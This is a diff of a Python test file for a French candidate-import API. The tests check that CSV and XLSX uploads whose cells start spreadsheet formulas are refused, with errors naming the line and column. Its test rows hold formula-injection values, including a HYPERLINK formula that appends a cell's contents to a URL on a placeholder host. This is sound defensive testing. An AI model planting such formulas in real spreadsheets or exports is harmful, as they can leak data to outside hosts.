@@ -9,6 +9,9 @@ would evaluate is refused with its column.
 
 from __future__ import annotations
 
+import io
+
+import openpyxl
 from tests.imports.files import count_rows, csv_bytes, post_file, xlsx_bytes
 
 from jury.db.queries import Database
@@ -152,8 +155,7 @@ async def test_a_cell_a_spreadsheet_would_evaluate_is_refused_with_its_column(
 
 
 async def test_a_workbook_text_cell_starting_a_formula_is_refused_too(import_client, db: Database) -> None:
-    """A workbook's real formula is read as the value it shows (what the organiser saw); a text cell that
-    starts like one would become a formula again in the next export."""
+    """A text cell that starts like a formula would become a formula again in the next export."""
     plus = ['+HYPERLINK("http://exemple.invalid")', "x@asso.org", "92040", "Association", "5"]
     at_sign = ["Asso du Plateau", "plateau@asso.org", "92040", "@SUM(1+1)", "5"]
     response = await _import(import_client, [ORGANISATION, plus, at_sign], xlsx=True)
@@ -162,6 +164,48 @@ async def test_a_workbook_text_cell_starting_a_formula_is_refused_too(import_cli
         (2, "nom_structure"),
         (3, "forme_juridique"),
     ]
+    assert await count_rows(db, "candidates") == 0
+
+
+async def test_a_workbook_formula_cell_is_refused_naming_its_line_and_column(
+    import_client, db: Database
+) -> None:
+    """openpyxl writes a string starting with `=` as a real formula cell (no cached value): it is refused
+    in a text column and in a typed one alike, with the formula shown, and nothing is imported."""
+    hyperlink = [
+        '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")',
+        "x@asso.org",
+        "92040",
+        "Association",
+        "5",
+    ]
+    computed = ["Asso du Plateau", "plateau@asso.org", "92040", "Association", "=1000*2"]
+    content = xlsx_bytes([ORGANISATION, FOYER, hyperlink, computed])
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    assert [workbook.active.cell(3, 1).data_type, workbook.active.cell(4, 5).data_type] == ["f", "f"]
+
+    response = await import_client.post(
+        f"/api/editions/{EDITION}/imports/candidats", files={"file": ("candidats.xlsx", content)}
+    )
+    assert response.status_code == 422
+    assert response.json() == {
+        "status_code": 422,
+        "detail": "Le fichier contient 2 erreurs : rien n'a été importé.",
+        "errors": [
+            {
+                "line": 3,
+                "field": "nom_structure",
+                "message": 'Formule refusée : la cellule contient la formule « =HYPERLINK("http://exemple.invalid/?"&… » ; '
+                "remplacez-la par sa valeur (copier, puis collage spécial « valeurs seulement »).",
+            },
+            {
+                "line": 4,
+                "field": "montant_demande",
+                "message": "Formule refusée : la cellule contient la formule « =1000*2 » ; remplacez-la par sa "
+                "valeur (copier, puis collage spécial « valeurs seulement »).",
+            },
+        ],
+    }
     assert await count_rows(db, "candidates") == 0
 
 
